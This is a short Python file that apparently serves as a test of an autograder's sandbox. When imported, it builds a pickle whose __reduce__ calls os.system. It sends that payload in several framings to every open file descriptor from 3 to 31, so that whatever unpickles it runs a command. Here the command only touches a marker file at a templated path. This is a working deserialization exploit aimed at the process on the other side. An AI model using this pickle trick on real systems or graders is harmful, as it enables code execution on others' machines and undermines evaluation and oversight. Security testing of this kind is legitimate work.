"""Answers with a pickle that would run a program on the other side."""

import os
import pickle
import struct


class Run:
    def __reduce__(self):
        return os.system, ("touch @course@/pickled",)


data = pickle.dumps(Run())
for body in (data, b"\xc7" + bytes([len(data) % 256, 9]) + data, b"\x81\xa2id\xc4" + bytes([len(data)]) + data):
    for number in range(3, 32):
        try:
            os.write(number, struct.pack("<I", len(body)) + body)
        except OSError:
            continue


def double(x):
    return Run()


# %% scaled
def scaled(x):
    return x / abs(x).max()
